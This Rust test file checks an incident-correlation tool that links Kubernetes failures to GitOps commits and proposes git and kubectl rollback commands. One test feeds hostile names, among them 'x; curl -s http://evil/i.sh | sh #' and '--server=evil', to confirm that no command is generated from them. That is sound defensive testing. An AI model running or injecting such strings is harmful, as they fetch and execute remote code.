//! Incidents correlated with a repository in memory.

mod repository;

use chrono::TimeDelta;
use serde_json::json;

use super::*;
use crate::assess::Incident;
use crate::cluster::Snapshot;
use crate::config::{Config, Environment};
use crate::model::{Action, Cause, Confidence, Severity, ShellCommand};
use repository::{
    Entry, TestRepository, before, entry, incident, merged, monitored, onset, report_of,
};

const LIMIT: &str = "@@ -1,4 +1,4 @@\n           resources:\n             limits:\n-              memory: 2Gi\n+              memory: 256Mi";
const IMAGE: &str = "@@ -1,2 +1,2 @@\n-  image: mysql:8.4\n+  image: mysql:9.0";
const LABEL: &str = "@@ -1,3 +1,3 @@ metadata:\n   labels:\n-    team: a\n+    team: b";

fn correlate_with(
    repository: &mut TestRepository,
    incidents: &[Incident],
    snapshot: &Snapshot,
) -> Vec<Option<IncidentCorrelation>> {
    let config = Config::load(None, &Environment::new()).unwrap().config;
    let monitored = monitored();
    let input = CorrelateInput {
        monitored: &monitored,
        repository: None,
        snapshot,
        config: &config,
    };
    let incidents: Vec<&Incident> = incidents.iter().collect();
    correlate(&incidents, &input, repository)
}

fn oom_killed(repository: &mut TestRepository) -> IncidentCorrelation {
    let incident = incident(Some(Cause::OOMKilled), Severity::Sev1);
    correlate_with(repository, &[incident], &Snapshot::default())
        .remove(0)
        .unwrap()
}

fn repository(entries: Vec<Entry>) -> TestRepository {
    TestRepository {
        entries,
        ..TestRepository::default()
    }
}

#[test]
fn the_commit_that_explains_the_cause_is_first_and_high() {
    let mut repository = repository(vec![
        entry('a', 2, &[("base-apps/mysql/service.yaml", LABEL)]),
        entry('b', 12, &[("base-apps/mysql/statefulset.yaml", LIMIT)]),
        entry('c', 25, &[("base-apps/mysql/statefulset.yaml", IMAGE)]),
        entry('d', 600, &[("base-apps/mysql/statefulset.yaml", LIMIT)]),
    ]);
    let answer = oom_killed(&mut repository);
    let correlation = &answer.correlation;
    assert_eq!(correlation.confidence, Confidence::High);
    let shas: String = correlation.commits.iter().map(|c| &c.sha[..1]).collect();
    assert_eq!(
        shas, "bc",
        "the label is irrelevant, and the commit of ten hours before is not read"
    );
    assert_eq!(correlation.commits[0].lag_seconds, 12 * 60);
    assert_eq!(
        correlation.commits[0].reasons[0],
        "lowers the memory limit from 2Gi to 256Mi, which can cause OOMKilled"
    );
    assert_eq!(correlation.note, None);
    assert_eq!(
        answer.candidates[0].changes,
        ["base-apps/mysql/statefulset.yaml: lowers the memory limit from 2Gi to 256Mi"]
    );
    assert!(repository.requests.len() <= 12, "{:?}", repository.requests);
}

#[test]
fn an_unrelated_commit_is_never_high() {
    for (what, entries) in [
        (
            "20 h before",
            vec![entry('a', 20 * 60, &[("base-apps/mysql/s.yaml", LIMIT)])],
        ),
        (
            "after",
            vec![entry('a', -1, &[("base-apps/mysql/s.yaml", LIMIT)])],
        ),
        (
            "other path",
            vec![entry('a', 12, &[("base-apps/vault/s.yaml", LIMIT)])],
        ),
        (
            "path with the same prefix",
            vec![entry('a', 12, &[("base-apps/mysql-old/s.yaml", LIMIT)])],
        ),
        (
            "documentation only",
            vec![entry(
                'a',
                12,
                &[("base-apps/mysql/README.md", "@@ -1 +1 @@\n-a\n+b")],
            )],
        ),
        (
            "another service",
            vec![entry('a', 12, &[("base-apps/api/s.yaml", LIMIT)])],
        ),
        (
            "merged after",
            vec![merged(
                entry('a', 12, &[("base-apps/mysql/s.yaml", LIMIT)]),
                -5,
            )],
        ),
        ("nothing", vec![]),
    ] {
        let mut repository = repository(entries);
        let answer = oom_killed(&mut repository);
        let confidence = answer.correlation.confidence;
        assert!(confidence > Confidence::High, "{what}: {answer:?}");
        assert!(repository.requests.len() <= 12, "{:?}", repository.requests);
        if confidence == Confidence::None {
            assert!(
                answer.correlation.commits.is_empty() && answer.rollback().is_empty(),
                "{what}"
            );
        }
    }
}

#[test]
fn a_merge_is_found_even_if_its_commits_are_old() {
    let mut merge = merged(entry('b', 12, &[("base-apps/mysql/s.yaml", LIMIT)]), 12);
    merge.summary.is_merge = true;
    let mut repository = TestRepository {
        entries: vec![entry(
            'a',
            60 * 24 * 3,
            &[("base-apps/mysql/s.yaml", LIMIT)],
        )],
        merges: vec![merge],
        ..TestRepository::default()
    };
    let answer = oom_killed(&mut repository);
    assert_eq!(answer.correlation.confidence, Confidence::High);
    assert!(
        answer.rollback()[0]
            .command
            .as_ref()
            .unwrap()
            .starts_with("git revert -m 1 bbbb")
    );

    // An old commit that was merged shortly before the onset counts from its merge.
    let yesterday = entry('a', 20 * 60, &[("base-apps/mysql/s.yaml", LIMIT)]);
    let mut repository = self::repository(vec![merged(yesterday, 10)]);
    let answer = oom_killed(&mut repository);
    assert_eq!(answer.correlation.confidence, Confidence::High);
    assert_eq!(answer.correlation.commits[0].lag_seconds, 20 * 3600);
}

#[test]
fn sev_4_is_not_searched_and_an_unknown_repository_is_noted() {
    let mut repository = repository(Vec::new());
    let small = incident(Some(Cause::OOMKilled), Severity::Sev4);
    let node = Incident {
        service: None,
        ..incident(None, Severity::Sev3)
    };
    let bare = Incident {
        service: Some("bare".to_owned()),
        ..incident(None, Severity::Sev2)
    };
    let answers = correlate_with(&mut repository, &[small, node, bare], &Snapshot::default());
    assert_eq!(answers[0], None);
    let note = |at: usize| {
        answers[at]
            .as_ref()
            .unwrap()
            .correlation
            .note
            .clone()
            .unwrap()
    };
    assert!(
        note(1).starts_with("correlation unavailable: the root finding belongs to no service"),
        "{}",
        note(1)
    );
    assert!(note(2).contains("set `ArgoCD App`"), "{}", note(2));
    assert!(repository.requests.is_empty());
}

#[test]
fn incidents_share_the_request_limit() {
    let mut repository = repository(
        ('a'..='f')
            .zip(1..)
            .map(|(sha, n)| entry(sha, n * 5, &[("base-apps/mysql/s.yaml", IMAGE)]))
            .collect(),
    );
    let api = |n| Incident {
        service: Some("api".to_owned()),
        since: onset() + TimeDelta::minutes(n),
        ..incident(Some(Cause::AppCrash), Severity::Sev2)
    };
    let incidents = [
        incident(Some(Cause::OOMKilled), Severity::Sev1),
        api(0),
        api(1),
        api(2),
    ];
    let answers = correlate_with(&mut repository, &incidents, &Snapshot::default());
    assert!(repository.requests.len() <= 12, "{:?}", repository.requests);
    let lists = repository
        .requests
        .iter()
        .filter(|request| *request == "list base-apps/api")
        .count();
    assert_eq!(
        lists, 1,
        "incidents of one service share a list: {:?}",
        repository.requests
    );
    assert!(answers.iter().all(Option::is_some));
}

#[test]
fn errors_are_noted_and_earlier_results_are_kept() {
    let unavailable = || RepositoryError::Unavailable("GitHub did not answer".to_owned());
    let lowered_limit = || vec![entry('a', 12, &[("base-apps/mysql/s.yaml", LIMIT)])];
    let mut none = TestRepository {
        errors: (0..20).map(|n| (n, unavailable())).collect(),
        ..self::repository(lowered_limit())
    };
    let answer = oom_killed(&mut none);
    assert_eq!(answer.correlation.confidence, Confidence::None);
    assert_eq!(
        answer.correlation.note.as_deref(),
        Some("correlation unavailable: GitHub did not answer")
    );
    let mut some = TestRepository {
        errors: (2..20).map(|n| (n, unavailable())).collect(),
        ..self::repository(lowered_limit())
    };
    let note = oom_killed(&mut some).correlation.note;
    assert_eq!(
        note.as_deref(),
        Some("correlation incomplete: GitHub did not answer")
    );
    // Only the pull request is missing, which needs no note.
    let mut most = TestRepository {
        errors: (3..20).map(|n| (n, unavailable())).collect(),
        ..self::repository(lowered_limit())
    };
    let answer = oom_killed(&mut most);
    assert_eq!(answer.correlation.confidence, Confidence::High);
    assert_eq!(answer.correlation.note, None);
}

fn snapshot(application: serde_json::Value) -> Snapshot {
    let mut snapshot = Snapshot::default();
    let application = serde_json::from_value(application).unwrap();
    snapshot.objects.applications.push(application);
    let pod = json!({ "metadata": {
        "name": "mysql-0", "namespace": "mysql", "creationTimestamp": before(7),
        "labels": { "controller-revision-hash": "mysql-1" },
        "ownerReferences": [{ "kind": "StatefulSet", "name": "mysql", "controller": true }] } });
    snapshot
        .objects
        .pods
        .push(serde_json::from_value(pod).unwrap());
    snapshot
}

fn application(status: &serde_json::Value) -> serde_json::Value {
    json!({ "metadata": { "name": "mysql-application", "namespace": "argocd" },
            "spec": { "destination": { "namespace": "mysql" } }, "status": status })
}

#[test]
fn the_timeline_is_in_order_with_sources() {
    let sha = "b".repeat(40);
    let snapshot = snapshot(application(&json!({
        "history": [{ "revision": "0".repeat(40), "deployedAt": before(900) },
                    { "revision": sha, "deployedAt": before(8) }] })));
    let lowered_limit = entry('b', 12, &[("base-apps/mysql/s.yaml", LIMIT)]);
    let mut repository = repository(vec![merged(lowered_limit, 12)]);
    let incident = incident(Some(Cause::OOMKilled), Severity::Sev1);
    let answer = correlate_with(&mut repository, &[incident], &snapshot)
        .remove(0)
        .unwrap();
    let events: Vec<String> = answer
        .correlation
        .timeline
        .iter()
        .map(|e| format!("{} {} ({})", e.at.format("%H:%M"), e.what, e.source))
        .collect();
    assert_eq!(
        events,
        [
            "07:48 commit bbbbbbb: a change (GitHub)",
            "07:48 pull request #7 merged (GitHub)",
            "07:52 Argo CD synced revision bbbbbbb (Argo CD)",
            "07:53 a new pod (mysql-0) (Pod mysql/mysql-0)",
            "08:00 first failure: container mysql is killed at its limit (StatefulSet mysql/mysql)",
        ]
    );
    let reasons = &answer.correlation.commits[0].reasons;
    assert!(
        reasons
            .iter()
            .any(|r| r == "a new pod (mysql-0) followed 5m later"),
        "{reasons:?}"
    );
    assert!(
        reasons.iter().any(|r| r.contains("synced this revision")),
        "{reasons:?}"
    );
}

#[test]
fn the_rollback_goes_through_git() {
    let lowered_limit = || entry('b', 12, &[("base-apps/mysql/s.yaml", LIMIT)]);
    let sha = lowered_limit().summary.sha;
    let steps = oom_killed(&mut repository(vec![lowered_limit()]))
        .rollback()
        .to_vec();
    let commands: Vec<&str> = steps.iter().filter_map(|s| s.command.as_deref()).collect();
    assert_eq!(
        commands,
        [
            &*format!("git revert {sha} && git push origin main"),
            "argocd app sync mysql-application",
            "kubectl rollout status statefulset/mysql -n mysql",
            "kubectl rollout undo statefulset/mysql -n mysql",
        ]
    );
    assert!(steps[2].title.contains("up to 6m"), "{}", steps[2].title);
    assert!(steps[3].title.contains("Warning"), "{}", steps[3].title);
}

#[test]
fn hostile_names_give_no_command_of_the_rollback() {
    let titles = |branch: &str, sha: &str, app: &str, name: &str| {
        let mut commit = entry('b', 12, &[("base-apps/mysql/s.yaml", LIMIT)]);
        commit.summary.sha = sha.to_owned();
        let mut incident = incident(Some(Cause::OOMKilled), Severity::Sev1);
        for finding in &mut incident.findings {
            finding.resource.name = name.to_owned();
        }
        let mut config = Config::load(None, &Environment::new()).unwrap().config;
        config.github.branch = branch.to_owned();
        let mut monitored = monitored();
        for service in &mut monitored {
            service.gitops.app_name = Some(app.to_owned());
        }
        let input = CorrelateInput {
            monitored: &monitored,
            repository: None,
            snapshot: &Snapshot::default(),
            config: &config,
        };
        let answer = correlate(&[&incident], &input, &mut repository(vec![commit]));
        let rollback = answer[0].as_ref().unwrap().rollback().to_vec();
        let refused = rollback.into_iter().filter(|step| step.command.is_none());
        refused.map(|step| step.title).collect::<Vec<_>>()
    };
    let (sha, hostile) = ("b".repeat(40), "x; curl -s http://evil/i.sh | sh #");
    assert!(titles("main", &sha, "mysql", "mysql").is_empty());
    for (refused, what) in [
        (titles(hostile, &sha, "mysql", "mysql"), "the branch"),
        (titles("+main", &sha, "mysql", "mysql"), "the branch"),
        (titles("main", "HEAD", "mysql", "mysql"), "the commit"),
        (titles("main", hostile, "mysql", "mysql"), "the commit"),
        (
            titles("main", &sha, hostile, "mysql"),
            "the name of the Application",
        ),
        (
            titles("main", &sha, "--server=evil", "mysql"),
            "the name of the Application",
        ),
        (
            titles("main", &sha, "mysql", hostile),
            "the name of the object",
        ),
    ] {
        let why = format!("(no command: {what} ");
        assert!(!refused.is_empty(), "{what}");
        assert!(
            refused.iter().all(|title| title.contains(&why)),
            "{refused:?}"
        );
    }
}

#[test]
fn a_commit_that_argo_cd_has_not_synced_is_not_reverted() {
    let lowered_limit = || entry('b', 12, &[("base-apps/mysql/s.yaml", LIMIT)]);
    let rollback_of = |status, cause| {
        let mut snapshot = snapshot(application(&status));
        snapshot.objects.pods.clear();
        let incident = incident(Some(cause), Severity::Sev1);
        correlate_with(
            &mut repository(vec![lowered_limit()]),
            &[incident],
            &snapshot,
        )
        .remove(0)
        .unwrap()
    };
    let old = json!([{ "revision": "0", "deployedAt": before(900) }]);
    let failed = json!({ "history": old, "operationState": {
        "phase": "Failed", "finishedAt": before(8), "message": "one or more objects failed to apply" } });
    let answer = rollback_of(failed.clone(), Cause::OOMKilled);
    assert_eq!(answer.correlation.confidence, Confidence::Medium);
    assert_eq!(answer.rollback().len(), 1);
    assert!(
        answer.rollback()[0]
            .title
            .contains("failed to sync bbbbbbb: one or more objects")
    );
    // If the failed sync is the incident, the revert repairs it.
    let answer = rollback_of(failed, Cause::ArgoSyncFailed);
    assert!(
        answer.rollback()[0]
            .command
            .as_ref()
            .unwrap()
            .starts_with("git revert")
    );

    let pending = json!({ "history": old, "sync": { "status": "OutOfSync" } });
    let answer = rollback_of(pending, Cause::OOMKilled);
    assert_eq!(answer.correlation.confidence, Confidence::Low);
    assert!(
        answer.rollback()[0].title.contains("Nothing to revert yet"),
        "{:?}",
        answer.rollback()
    );
}

#[test]
fn the_rollback_is_first_in_the_report_only_at_high_confidence() {
    let lowered_limit = |minutes| entry('b', minutes, &[("base-apps/mysql/s.yaml", LIMIT)]);
    let verify = || Action {
        title: "Verify".to_owned(),
        command: ShellCommand::parse("kubectl rollout status statefulset/mysql -n mysql"),
    };
    let look = || Action {
        title: "Look".to_owned(),
        command: ShellCommand::parse("kubectl describe statefulset mysql -n mysql"),
    };
    for (minutes, first) in [(12, "git revert"), (120, "kubectl describe")] {
        let answer = oom_killed(&mut repository(vec![lowered_limit(minutes)]));
        let mut report = report_of(vec![look(), verify()]);
        let rollback = answer.add_to(&mut report, None);
        let commands: Vec<&str> = report
            .actions
            .iter()
            .filter_map(|a| a.command.as_deref())
            .collect();
        assert!(commands[0].starts_with(first), "{commands:?}");
        assert_eq!(commands.len(), 5, "{commands:?}");
        assert_eq!(rollback.len(), 4);
        assert!(report.correlation.is_some());
    }
}
